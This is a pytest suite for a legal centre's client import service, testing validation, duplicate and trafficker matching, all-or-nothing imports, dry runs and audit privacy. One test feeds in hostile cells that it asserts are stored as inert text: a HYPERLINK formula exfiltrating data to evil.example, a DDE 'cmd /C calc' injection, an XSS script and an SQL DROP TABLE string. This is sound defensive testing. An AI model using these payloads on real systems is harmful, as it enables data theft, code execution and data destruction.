"""Clients imported from CSV/XLSX: the file read (hostile and malformed files refused in words
or read as text), every problem by row and column, duplicates on record and within the file
needing a decision, the conflict check and safety screening on each person, one transaction
(all or nothing), the dry run, permissions and the audit (counts, no names)."""
from __future__ import annotations

import io
from datetime import date

import pytest

from assist_desktop.documents.tables import Sheet, to_xlsx
from assist_desktop.domain.client_import import ImportField, suggest_mapping
from assist_desktop.domain.clients import Client
from assist_desktop.domain.errors import PermissionDenied, ValidationError
from assist_desktop.domain.parties import Party, PartyPhone, PartyRole
from assist_desktop.services.client_import import ClientImportService, Decision

TODAY = date(2026, 12, 7)
HEADER = "First name,Surname,Date of birth,Nationality,Languages,Interpreter,Phone,Notes\r\n"


def _service(centre):
    return ClientImportService(centre.db, centre.session, centre.audit_log)


def _csv(*lines: str, header: str = HEADER) -> bytes:
    return (header + "".join(line + "\r\n" for line in lines)).encode("utf-8")


def _preview(centre, data: bytes, name: str = "clients.csv"):
    service = _service(centre)
    source = service.read(data, name)
    return service, service.preview(source, suggest_mapping(source.header), today=TODAY)


def _count(centre, table: str) -> int:
    return centre.db.read(lambda c: c.execute(f"SELECT count(*) FROM {table}").fetchone()[0])


def _snapshot(centre) -> tuple[int, ...]:
    return tuple(_count(centre, t) for t in ("clients", "case_notes", "conflict_checks",
                                             "safety_alerts", "client_aliases"))


def test_a_clean_file_imports_every_row_with_its_check_note_and_partial_birth(centre):
    service, preview = _preview(centre, _csv(
        "Amina,Bello,about 1990,Nigerian,Yoruba; English (Nigerian),yes,,Met at the drop-in",
        "Linh,Tran,03/1996,Vietnamese,Vietnamese,no,,",
        "Olena,Kovalenko,1988,Ukrainian,,,,"))
    assert not preview.blocked and not preview.to_decide
    result = service.run(preview, {})
    assert (result.imported, result.skipped, result.notes, result.alerts) == (3, 0, 1, 0)
    clients = centre.services.clients
    amina = next(c for c in map(clients.get, _client_ids(centre)) if c.given_names == "Amina")
    assert amina.birth.typed() == "about 1990" and amina.nationality == "Nigerian"
    assert [(x.language, x.dialect, x.main) for x in amina.languages] == [
        ("Yoruba", "", True), ("English", "Nigerian", False)]
    assert amina.interpreter_needed and amina.solicitor_id == centre.session.user_id
    (note,) = centre.services.notes.list(amina.id)
    assert note.body == "Met at the drop-in"
    (check,) = centre.services.conflicts.checks_for_client(amina.id)
    assert check.decision == "proceed" and "row 2" in check.decision_note
    assert centre.services.search.search("Kovalenko")       # in the search index at once


def _client_ids(centre) -> list[int]:
    return [r[0] for r in centre.db.read(lambda c: c.execute("SELECT id FROM clients").fetchall())]


def test_every_problem_is_named_by_row_and_column(centre):
    _service_, preview = _preview(centre, _csv(
        "Amina,Bello,31/02/1990,Martian,,maybe,,",
        ",,,,,,,",                                       # blank: left out, not an error
        ",,1990,Eritrean,,,,",                           # no name
        "Rosa," + "x" * 600 + ",2090,,,,,",             # too long, in the future
        "Mira,Haddad,14/03/1994,Syrian,,,,"))
    issues = {(i.row, i.column, i.blocking, i.message.split(" (")[0])
              for r in preview.rows for i in r.parsed.issues}
    assert (2, 3, True, "is not a real date") in issues
    assert (2, 4, False, "is not a nationality in the list; it is kept as written") in issues
    assert (2, 6, True, "is not yes or no") in issues
    assert (4, 0, True, "has no name: a name is required") in issues
    assert any(i[:3] == (5, 2, True) and i[3].startswith("is too long") for i in issues)
    assert [r.row for r in preview.rows] == [2, 4, 5, 6]
    assert [r.row for r in preview.blocked] == [2, 4, 5]
    with pytest.raises(ValidationError, match="3 row\\(s\\) have problems"):
        _service_.run(preview, {})
    result = _service_.run(preview, {2: "skip", 4: "skip", 5: "skip"})
    assert result.imported == 1 and result.skipped == 3


def test_hostile_cells_are_stored_as_text_and_never_run(centre):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    service, preview = _preview(centre, _csv(
        '"' + formula.replace('"', '""') + '",Bello,,,,,,"<script>alert(1)</script> \'); DROP TABLE clients;--"',
        "Zahra\u202e,\u0632\u0647\u0631\u0627\u0621 \u0627\u0644\u062d\u0633\u064a\u0646\u064a,,,"
        ",,,🙂 \x07bell",
        "@SUM(A1:A9),+cmd|' /C calc'!A0,,,,,,-2+3"))
    assert not preview.blocked
    warnings = [i.message for r in preview.rows for i in r.parsed.issues]
    assert any("control or direction" in w for w in warnings)
    service.run(preview, {r.row: Decision.IMPORT for r in preview.to_decide})
    stored = {c.family_name: c for c in map(centre.services.clients.get, _client_ids(centre))}
    assert stored["Bello"].given_names == formula
    assert stored["زهراء الحسيني"].given_names == "Zahra"
    assert stored["+cmd|' /C calc'!A0"].given_names == "@SUM(A1:A9)"
    bodies = {n.body for cid in _client_ids(centre)
              for n in centre.services.notes.list(cid)}
    assert bodies == {"<script>alert(1)</script> '); DROP TABLE clients;--", "🙂 bell", "-2+3"}


@pytest.mark.parametrize("data, name, message", [
    (b"", "c.csv", "is empty"),
    (HEADER.encode(), "c.csv", "header row but no clients"),
    (b"\r\n\r\n", "c.csv", "no header row"),
    (b"PK\x03\x04 this is not really a zip", "c.xlsx", "not a readable .xlsx"),
    (b"%PDF-1.7 binary", "c.xlsx", "not a readable .xlsx"),
    (b"\x00\x01\x02\x00" * 100, "c.csv", "binary data"),
    (b"Name\r\n\"" + b"x" * 10_000_001 + b"\"\r\n", "c.csv", "longer than 10,000,000"),
    (b"anything", "c.xls", "save it from the spreadsheet program as .xlsx or .csv"),
])
def test_malformed_files_are_refused_in_words(centre, data, name, message):
    with pytest.raises(ValidationError, match=message):
        _service(centre).read(data, name)


def test_a_windows_1252_file_with_semicolons_and_ragged_rows_is_read(centre):
    data = ("Nom;Prénom;Nationality\r\nZoë;Müller;German\r\nAna;Silva\r\n"
            "Eva;Novak;Czech;extra cell\r\n").encode("cp1252")
    service = _service(centre)
    source = service.read(data, "c.csv")
    assert source.encoding == "windows-1252" and source.rows[0][0] == "Zoë"
    mapping = [ImportField.GIVEN_NAMES, ImportField.FAMILY_NAME, ImportField.NATIONALITY]
    preview = service.preview(source, mapping, today=TODAY)
    assert not preview.blocked
    (extra,) = [i for r in preview.rows for i in r.parsed.issues]
    assert (extra.row, extra.column, extra.blocking) == (4, 4, False)
    assert service.run(preview, {}).imported == 3


def test_an_xlsx_file_is_read_without_evaluating_formulas(centre):
    data = to_xlsx([Sheet("Clients", ["Full name", "DOB", "Notes"],
                          [["Amina Bello", date(1990, 5, 1), "=1+1"]])])
    service, preview = _preview(centre, data, "clients.xlsx")
    (row,) = preview.rows
    assert row.parsed.client.family_name == "Bello"
    assert row.parsed.client.date_of_birth == date(1990, 5, 1)
    assert row.parsed.note == "'=1+1"        # as the cell holds it (neutralised on the way out)


def test_duplicates_on_record_and_in_the_file_need_a_decision(centre):
    clients = centre.services.clients
    jurisdiction = centre.centre.jurisdiction
    existing = clients.create(Client(jurisdiction=jurisdiction, given_names="Amina",
                                     family_name="Bello", date_of_birth=date(1990, 5, 1)))
    victim = clients.create(Client(jurisdiction=jurisdiction, given_names="Joy",
                                   family_name="Eze"))
    centre.services.matters.parties.create(Party(
        client_id=victim.id, role=PartyRole.TRAFFICKER, name="Kingsley Okafor",
        phones=(PartyPhone("+44 7700 900123"),)))
    service, preview = _preview(centre, _csv(
        "AMINA,BELLO,01/05/1990,,,,,",               # the client on record
        "Kingsley,Okafor,,,,,,",                      # the trafficker's name
        "Nadia,Husseini,1992,,,,,",
        "Nadia,Al-Husseini,about 1993,,,,,",          # the same woman twice in the file
        "Grace,Adjei,,,,,07700 900123,"))             # the trafficker's phone number
    by_row = {r.row: r for r in preview.rows}
    assert existing.reference in by_row[2].matches[0].description
    assert by_row[3].matches[0].dangerous and "trafficker Kingsley Okafor" in \
        by_row[3].matches[0].description
    assert [m.other_row for m in by_row[4].matches] == [5]
    assert [m.other_row for m in by_row[5].matches] == [4]
    assert [r.row for r in preview.to_decide] == [2, 3, 4, 5]
    with pytest.raises(ValidationError, match="3 row\\(s\\) may match"):
        service.run(preview, {2: "skip"})
    result = service.run(preview, {2: "skip", 3: "skip", 4: "import", 5: "skip"})
    assert (result.imported, result.skipped, result.alerts) == (2, 3, 1)
    grace = [c for c in map(clients.get, _client_ids(centre)) if c.given_names == "Grace"][0]
    (alert,) = centre.services.safety.alerts_for(grace.id)
    assert alert.match_on == "phone"
    nadia = [c for c in map(clients.get, _client_ids(centre)) if c.given_names == "Nadia"][0]
    (check,) = centre.services.conflicts.checks_for_client(nadia.id)
    assert "imported anyway" in check.decision_note


def test_the_centre_changing_after_the_preview_stops_the_import(centre):
    service, preview = _preview(centre, _csv("Amina,Bello,,,,,,"))
    centre.services.clients.create(Client(jurisdiction=centre.centre.jurisdiction,
                                          given_names="Amina", family_name="Bello"))
    before = _snapshot(centre)
    with pytest.raises(ValidationError, match="changed since the preview"):
        service.run(preview, {})
    assert _snapshot(centre) == before


def _word(n: int) -> str:
    """A distinct made-up name for each n (letters only: names never hold digits)."""
    letters = "bdfgklmnprstvz"
    vowels = "aeiou"
    out = ""
    for place in range(4):
        out += letters[n % 14] + vowels[place]
        n //= 14
    return out.capitalize()


@pytest.mark.slow
def test_a_failure_at_row_4000_leaves_the_centre_unchanged(centre, monkeypatch):
    lines = [f"{_word(i)},{_word(i * 7 + 3)}son,,,,,,note {i}" for i in range(4_100)]
    service, preview = _preview(centre, _csv(*lines))
    assert not preview.blocked
    decisions = {r.row: Decision.IMPORT for r in preview.to_decide}   # made-up names sound alike
    before = _snapshot(centre)
    audit_rows = _count(centre, "audit_log")
    real_insert = service._checks.insert     # her conflict check: stored after her file
    made = []

    def insert(conn, **kwargs):
        if len(made) == 3_999:
            raise OSError("disk full")
        made.append(kwargs["client_id"])
        return real_insert(conn, **kwargs)
    monkeypatch.setattr(service._checks, "insert", insert)
    with pytest.raises(OSError):
        service.run(preview, decisions)
    assert len(made) == 3_999
    assert _snapshot(centre) == before
    assert _count(centre, "audit_log") == audit_rows
    assert not centre.services.search.search(_word(12))


def test_a_dry_run_does_everything_and_keeps_nothing(centre):
    service, preview = _preview(centre, _csv("Amina,Bello,,,,,,first note",
                                             "Linh,Tran,,,,,,"))
    before = _snapshot(centre)
    result = service.run(preview, {}, dry_run=True)
    assert result.dry_run and result.imported == 2 and result.notes == 1
    assert result.references[0].startswith("C-")
    assert _snapshot(centre) == before
    calls = []
    real = service._find_all
    service._find_all = lambda *a: calls.append(1) or real(*a)
    assert service.run(preview, {}).imported == 2            # and the real run still works,
    assert calls == []                   # on the preview's checks (only the dry run wrote)


def test_only_a_solicitor_imports_and_the_audit_has_counts_not_names(centre, staff):
    for who, why in (("sup", "Only a solicitor"), ("adm", "Your account does not hold")):
        other = staff(who)
        with pytest.raises(PermissionDenied, match=why):
            ClientImportService(other.db, other.session, other.audit_log).read(
                _csv("Amina,Bello,,,,,,"), "c.csv")
    service, preview = _preview(centre, _csv("Amina,Bello,,,,,,a note about Bello"))
    service.run(preview, {})
    rows = centre.db.read(lambda c: c.execute(
        "SELECT action, entity_id, detail FROM audit_log").fetchall())
    details = " ".join(f"{a} {e} {d}" for a, e, d in rows)
    assert "Amina" not in details and "Bello" not in details
    assert ("import_clients", "", "rows=1;imported=1;skipped=0;notes=1;alerts=0") in rows
    assert any(a == "import_preview" for a, _e, _d in rows)


def test_header_names_are_suggested_as_fields():
    mapping = suggest_mapping(["Client name", "D.O.B.", "Country of origin", "Mobile",
                               "Known as", "AKA", "Comments", "Favourite colour", "Surname"])
    assert mapping == [ImportField.FULL_NAME, ImportField.DATE_OF_BIRTH,
                       ImportField.NATIONALITY, ImportField.PHONE, ImportField.PREFERRED_NAME,
                       ImportField.OTHER_NAMES, ImportField.NOTE, None, ImportField.FAMILY_NAME]


def test_a_mapping_without_a_name_or_with_a_field_twice_is_refused(centre):
    service = _service(centre)
    source = service.read(_csv("Amina,Bello,,,,,,"), "c.csv")
    with pytest.raises(ValidationError, match="needs a column for her name"):
        service.preview(source, [None] * 8)
    with pytest.raises(ValidationError, match="more than one column"):
        service.preview(source, [ImportField.GIVEN_NAMES] * 2 + [None] * 6)


def test_huge_cells_are_refused_by_row_and_column_not_stored(centre):
    big = "A" * 600
    note = "n" * 1000
    _s, preview = _preview(centre, io.BytesIO(_csv(f"{big},Bello,,,,,,{note}")).getvalue())
    (row,) = preview.rows
    (issue,) = row.parsed.issues
    assert (issue.column, issue.blocking) == (1, True) and "600 characters" in issue.message


def test_more_other_names_than_the_conflict_check_takes_is_a_problem(centre):
    many = ";".join(f"Alias{chr(65 + i)}" for i in range(19))
    _s, preview = _preview(centre, _csv(f"Ana,Silva,,,,,,{many}",
                                        header=HEADER.replace("Notes", "Other names")))
    (issue,) = preview.rows[0].parsed.issues
    assert (issue.column, issue.blocking) == (8, True) and "has 19 names" in issue.message
